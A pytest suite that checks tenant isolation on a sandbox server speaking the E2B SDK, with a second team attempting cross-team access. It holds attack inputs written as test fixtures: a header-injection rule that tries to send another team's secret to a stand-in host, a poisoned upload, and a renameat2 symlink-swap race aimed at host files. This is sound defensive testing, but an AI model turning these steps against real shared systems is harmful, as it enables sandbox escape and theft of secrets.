"""Two teams on one server, tried as a hostile second team would (issue 22): the official SDK and
raw HTTP with team B's key against team A's templates, snapshots, secrets, build uploads and
sandboxes. Each test names the row of the issue it covers; the rows checked elsewhere are
listed in `docs/threat-model.md` ("Tenancy").

Team A is the suite's seeded key; team B is made with the `bulkhead` CLI on the running
server's data dir, as an operator would. Every sandbox, template, snapshot and secret a test
makes is removed through the API with its own team's key."""

from __future__ import annotations

import hashlib
import io
import os
import secrets
import shutil
import tarfile
import tempfile
import time
import uuid
from pathlib import Path

import pytest
from e2b import Sandbox, Secret, Template
from e2b.exceptions import NotFoundException, SandboxException, SecretNotFoundException
from e2b.template.consts import RESOLVE_SYMLINKS
from e2b.template.utils import calculate_files_hash

from bulkhead_testlib import TEMPLATE, http
from test_teams import Cli


def _name(prefix: str) -> str:
    return f"{prefix}-{uuid.uuid4().hex[:8]}"


class Teams:
    def __init__(self, server, key_b: str):
        self.server = server
        self.url = server.url
        self.a = server.api_key
        self.b = key_b
        self.sandboxes: list[tuple[str, str]] = []  # (key, id)
        self.templates: list[tuple[str, str]] = []  # (key, id or name)

    def h(self, key: str) -> dict:
        return {"X-API-Key": key}

    def req(self, method: str, path: str, key: str, body=None):
        return http(method, self.url + path, body, headers=self.h(key))

    def sandbox(self, key: str, template: str = TEMPLATE, **kw) -> Sandbox:
        sbx = Sandbox.create(template, timeout=300, api_key=key, **kw)
        self.sandboxes.append((key, sbx.sandbox_id))
        return sbx

    def build(self, key: str, template, name: str, **kw):
        self.templates.append((key, name))
        return Template.build(template, name, api_key=key, **kw)


@pytest.fixture(scope="module")
def teams(server):
    if not server.owned:
        pytest.skip("SKIPPED: needs the suite's own server (team B is made with the CLI on its data dir)")
    cli = Cli(server)
    team = _name("tenant-b")
    cli("teams", "create", team)
    key_b = cli("keys", "create", "--team", team, "--name", f"{team}-key").strip()
    t = Teams(server, key_b)
    yield t
    for key, sid in t.sandboxes:
        http("DELETE", f"{t.url}/sandboxes/{sid}", headers=t.h(key))
    for key, name in reversed(t.templates):
        http("DELETE", f"{t.url}/templates/{name}", headers=t.h(key))


def run(sbx, cmd: str, user: str = "user", timeout: float = 120) -> str:
    return sbx.commands.run(cmd, user=user, timeout=timeout).stdout


# ---- rows 1 and 4 of the review: template names, ids, tags, builds and logs ----------------------


def test_a_template_name_is_its_teams_and_another_team_cannot_touch_it(teams):
    """Row 1: B building A's template name makes B's own template; B cannot start, delete,
    retag, list or read the builds of A's."""
    name = _name("tn")
    a = teams.build(teams.a, Template().from_template("base").run_cmd("echo A-OWNS > /home/user/m"), name)
    b = teams.build(teams.b, Template().from_template("base").run_cmd("echo POISONED > /home/user/m"), name)
    assert a.template_id != b.template_id

    sa = teams.sandbox(teams.a, name)
    assert run(sa, "cat /home/user/m").strip() == "A-OWNS"
    sb = teams.sandbox(teams.b, name)
    assert run(sb, "cat /home/user/m").strip() == "POISONED"

    # B's key on A's template id: unknown, whatever the verb.
    with pytest.raises(SandboxException, match='404'):
        Sandbox.create(a.template_id, api_key=teams.b, timeout=60)
    for method, path, body in [
        ("DELETE", f"/templates/{a.template_id}", None),
        ("GET", f"/templates/{a.template_id}/tags", None),
        ("POST", "/templates/tags", {"target": f"{a.template_id}:default", "tags": ["hijack"]}),
        ("DELETE", "/templates/tags", {"name": a.template_id, "tags": ["default"]}),
        ("GET", f"/templates/{a.template_id}/builds/{a.build_id}/status", None),
        ("GET", f"/templates/{a.template_id}/files/{'a' * 64}", None),
        ("POST", f"/v2/templates/{a.template_id}/builds/{a.build_id}", {"fromTemplate": "base", "steps": []}),
    ]:
        r = teams.req(method, path, teams.b, body)
        assert r.status == 404, (method, path, r.status, r.body)
        assert r.json()["code"] == 404 and r.json()["message"], r.body
    # Aliases resolve within the caller's team; lists hold the team's own and the built-ins.
    assert teams.req("GET", f"/templates/aliases/{name}", teams.b).json()["templateID"] == b.template_id
    assert teams.req("GET", f"/templates/aliases/{name}", teams.a).json()["templateID"] == a.template_id
    listed_b = [t["templateID"] for t in teams.req("GET", "/templates", teams.b).json()]
    assert b.template_id in listed_b and a.template_id not in listed_b and "base" in listed_b
    # B deleting "its" name deletes its own template, never A's.
    assert teams.req("DELETE", f"/templates/{name}", teams.b).status == 204
    assert teams.req("GET", f"/templates/aliases/{name}", teams.b).status == 404
    sa2 = teams.sandbox(teams.a, name)
    assert run(sa2, "cat /home/user/m").strip() == "A-OWNS"
    # A's build log is A's.
    r = teams.req("GET", f"/templates/{a.template_id}/builds/{a.build_id}/status", teams.a)
    assert r.status == 200 and r.json()["status"] == "ready", r.body


def test_a_template_never_shadows_a_snapshot_of_another_team(teams):
    """Row 2: B's template named like A's snapshot does not change what A's create starts;
    A itself cannot give one of its templates its snapshot's name (409)."""
    snap_name = _name("asnap")
    src = teams.sandbox(teams.a)
    src.files.write("/home/user/which", "A-SNAPSHOT")
    snap = src.create_snapshot(snap_name)
    teams.templates.append((teams.a, snap.snapshot_id))
    teams.build(teams.b, Template().from_template("base").run_cmd("echo B-TEMPLATE > /home/user/which"), snap_name)

    restored = teams.sandbox(teams.a, snap_name)
    assert run(restored, "cat /home/user/which").strip() == "A-SNAPSHOT"
    b_sbx = teams.sandbox(teams.b, snap_name)
    assert run(b_sbx, "cat /home/user/which").strip() == "B-TEMPLATE"
    # One name, one thing within a team.
    r = teams.req("POST", "/v3/templates", teams.a, {"name": snap_name})
    assert r.status == 409 and "snapshot" in r.json()["message"], r.body
    # B does not see A's snapshot (restoring and deleting it by id: the held-cases test).
    listed = teams.req("GET", "/snapshots", teams.b).json()
    assert snap_name not in str(listed) and src.sandbox_id not in str(listed)
    # B deleting the name deletes B's template; A's snapshot still restores.
    assert teams.req("DELETE", f"/templates/{snap_name}", teams.b).status == 204
    again = teams.sandbox(teams.a, snap_name)
    assert run(again, "cat /home/user/which").strip() == "A-SNAPSHOT"


# ---- row 3 of the issue (5 of the review): secrets ---------------------------------------------


def _injecting(secret_name: str) -> dict:
    return {
        "allow_out": ["inject.allowed.test"],
        "rules": {"inject.allowed.test": [{"transform": {"headers": {"X-Stolen": Secret.fill(secret_name)}}}]},
    }


def _seen_header(lab, path: str):
    got = [r for r in lab.requests() if r["path"] == path]
    assert got, f"the upstream saw no request for {path}"
    return {k.lower(): v for k, v in got[-1]["headers"]}.get("x-stolen")


def test_secrets_resolve_only_in_their_team(teams, lab):
    """Issue row 3: B's rule naming A's secret never sends A's value; B cannot change or delete
    A's secret; both teams may use one name, each getting its own value."""
    name = _name("a-secret")
    a_value = "TEAM-A-" + secrets.token_hex(16)
    b_value = "TEAM-B-" + secrets.token_hex(16)
    info = Secret.create(name, a_value, api_key=teams.a)
    try:
        for ref in (name, info.secret_id):
            with pytest.raises(SecretNotFoundException):
                Secret.get_info(ref, api_key=teams.b)
            with pytest.raises(SecretNotFoundException):
                Secret.update(ref, "HIJACKED", api_key=teams.b)
            assert Secret.destroy(ref, api_key=teams.b) is False
        assert name not in [s.name for s in Secret.list(api_key=teams.b).next_items()]

        # B's rule names a secret B's team does not have: the proxy refuses the request (it
        # never forwards a placeholder, and never A's value).
        sb = teams.sandbox(teams.b, network=_injecting(name))
        r = sb.commands.run("curl -sS -m 10 -w '%{http_code}' -o /dev/null https://inject.allowed.test/b-steal || true", timeout=60)
        assert r.stdout.strip() != "200", r.stdout
        assert not [q for q in lab.requests() if q["path"] == "/b-steal"], "the request went upstream"
        assert a_value not in str(lab.requests())

        # B's own secret of the same name is B's value in B's sandbox; A's stays A's.
        Secret.create(name, b_value, api_key=teams.b)
        sb2 = teams.sandbox(teams.b, network=_injecting(name))
        sb2.commands.run("curl -sS -m 10 -o /dev/null https://inject.allowed.test/b-own", timeout=60)
        assert _seen_header(lab, "/b-own") == b_value
        sa = teams.sandbox(teams.a, network=_injecting(name))
        sa.commands.run("curl -sS -m 10 -o /dev/null https://inject.allowed.test/a-own", timeout=60)
        assert _seen_header(lab, "/a-own") == a_value
        assert Secret.get_info(name, api_key=teams.a).version == 1
    finally:
        Secret.destroy(name, api_key=teams.a)
        Secret.destroy(name, api_key=teams.b)


# ---- issue rows 4 and 15: uploaded build files ---------------------------------------------------


def _tar_gz(files: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tar:
        for path, data in files.items():
            ti = tarfile.TarInfo(path)
            ti.size = len(data)
            ti.mode = 0o644
            tar.addfile(ti, io.BytesIO(data))
    return buf.getvalue()


def test_an_upload_serves_only_its_own_team(teams, tmp_path):
    """Rows 4 and 15: B uploads a poisoned archive under the files hash A's SDK computes: A is
    not told it is cached, A's build uploads its own file, A's sandbox runs A's code."""
    ctx = tmp_path / "ctx"
    ctx.mkdir()
    (ctx / "app.py").write_text("print('A-APP')\n")
    dest = "/home/user/app.py"
    files_hash = calculate_files_hash("app.py", dest, str(ctx), [], RESOLVE_SYMLINKS, None)

    r = teams.req("POST", "/v3/templates", teams.b, {"name": _name("b-dummy")})
    assert r.status == 202, r.body
    b_tid = r.json()["templateID"]
    teams.templates.append((teams.b, b_tid))
    link = teams.req("GET", f"/templates/{b_tid}/files/{files_hash}", teams.b).json()
    assert link["present"] is False and link["url"]
    put = http("PUT", link["url"], _tar_gz({"app.py": b"print('POISONED-BY-B')\n"}))
    assert put.status == 200, put.body
    assert teams.req("GET", f"/templates/{b_tid}/files/{files_hash}", teams.b).json()["present"] is True

    # A asks about the same hash under its own template: not present (no oracle, no reuse).
    name = _name("tpl-upload")
    r = teams.req("POST", "/v3/templates", teams.a, {"name": name})
    a_tid = r.json()["templateID"]
    teams.templates.append((teams.a, name))
    assert teams.req("GET", f"/templates/{a_tid}/files/{files_hash}", teams.a).json()["present"] is False
    # Nor can B ask about A's template.
    assert teams.req("GET", f"/templates/{a_tid}/files/{files_hash}", teams.b).status == 404

    logs = []
    teams.build(
        teams.a,
        Template(file_context_path=str(ctx)).from_template("base").copy("app.py", dest),
        name,
        on_build_logs=logs.append,
    )
    text = "\n".join(str(l) for l in logs)
    assert "already cached" not in text, text
    sa = teams.sandbox(teams.a, name)
    assert run(sa, f"python3 {dest}").strip() == "A-APP"


def test_an_upload_that_is_not_an_archive_is_refused(teams):
    """Row 4: the server checks what it receives: an upload that is not a tar archive (plain or
    gzip) is a 400 in E2B's error shape and is not kept, so the build asks for it again."""
    r = teams.req("POST", "/v3/templates", teams.a, {"name": _name("tpl-bad-upload")})
    assert r.status == 202, r.body
    tid = r.json()["templateID"]
    teams.templates.append((teams.a, tid))
    files_hash = hashlib.sha256(os.urandom(16)).hexdigest()
    for junk in (b"not an archive at all\n" * 100, b"\x1f\x8b\x08" + os.urandom(200)):
        link = teams.req("GET", f"/templates/{tid}/files/{files_hash}", teams.a).json()
        assert link["present"] is False and link["url"]
        put = http("PUT", link["url"], junk)
        assert put.status == 400 and "tar" in put.json()["message"], (put.status, put.body)
    link = teams.req("GET", f"/templates/{tid}/files/{files_hash}", teams.a).json()
    assert link["present"] is False
    assert http("PUT", link["url"], _tar_gz({"ok.txt": b"fine"})).status == 200
    assert teams.req("GET", f"/templates/{tid}/files/{files_hash}", teams.a).json()["present"] is True


# ---- issue rows 6 and 9: the changes listing ------------------------------------------------------

SWAPPER = r"""
import ctypes, os, platform, sys, time
libc = ctypes.CDLL(None, use_errno=True)
SYS_RENAMEAT2 = {"x86_64": 316, "aarch64": 276}[platform.machine()]
os.makedirs("/home/user/w/flip", exist_ok=True)
open("/home/user/w/flip/inside", "w").close()
for i in range(3000):
    open(f"/home/user/w/pad-{i:04d}", "w").close()
if not os.path.islink("/home/user/w/flipl"):
    os.symlink(sys.argv[1], "/home/user/w/flipl")
open("/home/user/w/ready", "w").close()
deadline = time.time() + float(sys.argv[2])
n = 0
while time.time() < deadline:
    # renameat2(AT_FDCWD, "w/flip", AT_FDCWD, "w/flipl", RENAME_EXCHANGE)
    if libc.syscall(SYS_RENAMEAT2, -100, b"/home/user/w/flip", -100, b"/home/user/w/flipl", 2) == 0:
        n += 1
print(n)
"""


def test_the_changes_listing_never_follows_a_swapped_symlink(teams):
    """Row 6: a sandbox swapping a directory with a symlink to a host directory while its
    owner polls `GET /sandboxes/{id}/changes` never gets host entries listed."""
    host_dir = Path(tempfile.mkdtemp(prefix="bh-host-", dir="/var/tmp"))
    canary = f"HOST-CANARY-{secrets.token_hex(6)}"
    (host_dir / canary).write_text("host file")
    try:
        sbx = teams.sandbox(teams.b)
        sbx.files.write("/tmp/swap.py", SWAPPER)
        seconds = 20
        handle = sbx.commands.run(f"python3 /tmp/swap.py {host_dir} {seconds}", background=True, user="root")
        deadline = time.monotonic() + 60
        while not sbx.files.exists("/home/user/w/ready"):
            assert time.monotonic() < deadline, "the swapper did not start"
            time.sleep(0.2)
        polls, saw_flip = 0, False
        end = time.monotonic() + seconds - 2
        while time.monotonic() < end:
            r = teams.req("GET", f"/sandboxes/{sbx.sandbox_id}/changes", teams.b)
            assert r.status == 200, r.body
            assert canary.encode() not in r.body, "the listing followed the symlink onto the host"
            paths = [c["path"] for c in r.json()]
            # The real directory's file, under whichever name the directory had at the time.
            saw_flip |= any(p.endswith("/inside") for p in paths)
            polls += 1
        swaps = int(handle.wait().stdout.strip())
        assert saw_flip and polls >= 5 and swaps > 1000, (saw_flip, polls, swaps)
    finally:
        shutil.rmtree(host_dir, ignore_errors=True)


def test_changes_since_another_teams_snapshot_is_not_found(teams):
    """Row 9: `?since=` names one of the caller's team's snapshots only."""
    src = teams.sandbox(teams.a)
    src.files.write("/home/user/a-secret.txt", "A's file")
    snap_name = _name("since")
    snap = src.create_snapshot(snap_name)
    teams.templates.append((teams.a, snap.snapshot_id))
    mine = teams.sandbox(teams.b)
    for ref in (snap_name, snap.snapshot_id):
        r = teams.req("GET", f"/sandboxes/{mine.sandbox_id}/changes?since={ref}", teams.b)
        assert r.status == 404 and b"a-secret" not in r.body, r.body
    r = teams.req("GET", f"/sandboxes/{src.sandbox_id}/changes?since={snap_name}", teams.a)
    assert r.status == 200, r.body


# ---- what held in the review stays held -----------------------------------------------------------


def test_every_sandbox_verb_of_another_team_is_not_found(teams):
    """Review rows 20-21: B's key on A's sandbox, its snapshots and volumes answers 404 (or an
    empty list), and A's sandbox is untouched afterwards."""
    sa = teams.sandbox(teams.a)
    sa.files.write("/home/user/keep.txt", "still here")
    sid = sa.sandbox_id
    snap = sa.create_snapshot()
    teams.templates.append((teams.a, snap.snapshot_id))
    verbs = [
        ("GET", f"/sandboxes/{sid}", None),
        ("DELETE", f"/sandboxes/{sid}", None),
        ("POST", f"/sandboxes/{sid}/timeout", {"timeout": 1}),
        ("POST", f"/sandboxes/{sid}/refreshes", {"duration": 10}),
        ("POST", f"/sandboxes/{sid}/connect", {"timeout": 60}),
        ("POST", f"/v2/sandboxes/{sid}/connect", {"timeout": 60}),
        ("POST", f"/sandboxes/{sid}/resume", {"timeout": 60}),
        ("POST", f"/sandboxes/{sid}/pause", None),
        ("GET", f"/sandboxes/{sid}/metrics", None),
        ("GET", f"/sandboxes/{sid}/changes", None),
        ("GET", f"/sandboxes/{sid}/network/events", None),
        ("PUT", f"/sandboxes/{sid}/network", {"allowOut": ["example.com"]}),
        ("POST", f"/sandboxes/{sid}/snapshots", {}),
        ("POST", f"/sandboxes/{sid}/fork", {}),
        ("GET", f"/bulkhead/v1/sandboxes/{sid}/processes", None),
        ("GET", f"/bulkhead/v1/sandboxes/{sid}/files?path=/home/user", None),
        ("GET", f"/bulkhead/v1/sandboxes/{sid}/files/content?path=/home/user/keep.txt", None),
        ("DELETE", f"/templates/{snap.snapshot_id}", None),
    ]
    for method, path, body in verbs:
        r = teams.req(method, path, teams.b, body)
        assert r.status == 404, (method, path, r.status, r.body)
        assert b"still here" not in r.body
    listed = teams.req("GET", "/v2/sandboxes?state=running&state=paused", teams.b).json()
    assert sid not in [s["sandboxID"] for s in listed]
    metrics = teams.req("GET", f"/sandboxes/metrics?sandbox_ids={sid}", teams.b)
    assert sid.encode() not in metrics.body, metrics.body
    with pytest.raises(NotFoundException):
        Sandbox.connect(sid, api_key=teams.b)
    with pytest.raises(SandboxException, match='404'):
        Sandbox.create(snap.snapshot_id, api_key=teams.b, timeout=60)
    # A's sandbox and snapshot are untouched.
    assert sa.is_running()
    assert run(sa, "cat /home/user/keep.txt") == "still here"
    again = teams.sandbox(teams.a, snap.snapshot_id)
    assert run(again, "cat /home/user/keep.txt") == "still here"
    # B's own key on A's envd is refused (the envd token decides, never a team key).
    r = http(
        "GET",
        f"{teams.url}/files?path=/home/user/keep.txt",
        headers={"E2b-Sandbox-Id": sid, "E2b-Sandbox-Port": "49983", "X-API-Key": teams.b},
    )
    assert r.status == 401 and b"still here" not in r.body, (r.status, r.body)
